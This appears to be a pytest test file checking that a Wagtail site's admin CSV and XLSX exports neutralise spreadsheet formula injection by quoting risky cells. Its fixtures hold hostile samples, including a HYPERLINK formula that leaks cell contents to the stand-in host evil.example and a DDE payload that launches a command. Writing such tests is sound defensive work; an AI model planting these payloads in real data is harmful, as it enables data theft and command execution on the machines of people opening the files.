"""Every admin export writes text that a spreadsheet would run as a formula as plain text.

The exports are found from the URL resolver (every view built on Wagtail's
``SpreadsheetExportMixin``), so a listing or report added later is checked too.
"""

import csv
import io

from django.contrib.auth.models import Group

from wagtail.admin.views.mixins import SpreadsheetExportMixin

import pytest
from openpyxl import load_workbook

from core.spreadsheets import csv_cell, would_run
from reuse.models import FindingUse
from tests.factories import (
    FellowFactory,
    FindingFactory,
    MentorFactory,
    ProjectPageFactory,
    ThemeFactory,
    UserFactory,
)
from tests.urlwalk import every_route

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
HOSTILE = {
    "how_used": HYPERLINK,
    "who": "@SUM(1+1)*cmd|' /C calc'!A0",
    "theme": "+1+1 theme",
    "fellow": "-2+3 fellow",
    "mentor": "=1+1 mentor",
    "title": "=2+2 project title",
}


def export_routes():
    routes = []
    for route in every_route():
        view_class = route.view_class
        if view_class and issubclass(view_class, SpreadsheetExportMixin) and not route.kinds:
            routes.append(route)
    return routes


def export_view(route):
    initkwargs = getattr(route.callback, "view_initkwargs", {})
    return route.view_class(**initkwargs)


@pytest.fixture
def hostile_site(home):
    admin = UserFactory(username="root", is_superuser=True, is_staff=True)
    theme = ThemeFactory(name=HOSTILE["theme"], slug="hostile-theme")
    fellow = FellowFactory(name=HOSTILE["fellow"])
    MentorFactory(name=HOSTILE["mentor"])
    page = ProjectPageFactory(title=HOSTILE["title"], fellows=[fellow], themes=[theme])
    finding = FindingFactory(page=page, headline="A finding")
    page.save_revision(user=admin).publish(user=admin)
    page.refresh_from_db()
    page.locked, page.locked_by = True, admin
    page.save()
    FindingUse.objects.create(
        finding=finding, who=HOSTILE["who"], organisation_type="police", how_used=HYPERLINK
    )
    return admin


def test_every_admin_export_is_found_from_the_resolver():
    paths = {route.text for route in export_routes()}
    # The listings and reports named in the security review, as a check that the walk works.
    assert "admin/snippets/reuse/findinguse/" in paths
    assert "admin/reports/site-history/" in paths
    assert "admin/reports/workflow/" in paths


@pytest.mark.parametrize("route", export_routes(), ids=lambda route: route.text)
def test_every_admin_export_view_writes_formula_text_as_text(route):
    view = export_view(route)
    # Fields with a preprocessor of their own (content types, users) hold objects, not text.
    fields = [f for f in view.list_export if f not in view.custom_field_preprocess] or ["title"]
    for value in HOSTILE.values():
        row = {field: view.preprocess_field_value(field, value, "csv") for field in fields}
        assert all(cell == "'" + value for cell in row.values()), (route.text, row)


def exported_cells(client, route, export_format):
    response = client.get(route.fill({}) + f"?export={export_format}")
    assert response.status_code == 200, route.text
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]
    book = load_workbook(io.BytesIO(body))
    return [cell for row in book.active.iter_rows() for cell in row]


def test_every_admin_csv_export_neutralises_hostile_text(client, hostile_site):
    client.force_login(hostile_site)
    seen = []
    for route in export_routes():
        cells = exported_cells(client, route, "csv")
        assert not [cell for cell in cells if would_run(cell)], route.text
        seen += cells
    for value in HOSTILE.values():
        assert "'" + value in seen, value


def test_finding_use_csv_export_keeps_the_text_behind_a_quote(client, hostile_site):
    client.force_login(hostile_site)
    response = client.get("/admin/snippets/reuse/findinguse/?export=csv")
    header, row = csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
    cells = dict(zip(header, row, strict=True))
    assert cells["How it was used"] == "'" + HYPERLINK, cells
    assert cells["Who"] == "'" + HOSTILE["who"]


def test_every_admin_xlsx_export_writes_formula_text_as_string_cells(client, hostile_site):
    client.force_login(hostile_site)
    for route in export_routes():
        for cell in exported_cells(client, route, "xlsx"):
            assert cell.data_type != "f", (route.text, cell.value)
            if isinstance(cell.value, str) and would_run(cell.value):
                assert cell.data_type == "s"


def test_programme_team_export_of_reports_is_neutralised(client, hostile_site):
    member = UserFactory(username="team")
    member.groups.add(Group.objects.get(name="Programme team"))
    client.force_login(member)
    response = client.get("/admin/snippets/reuse/findinguse/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "'" + HYPERLINK.replace('"', '""') in text


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_csv_cell_puts_a_quote_before_text_a_spreadsheet_would_run(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Belonging", "a=b", "", 5, -2])
def test_csv_cell_leaves_other_values_alone(value):
    assert csv_cell(value) == value
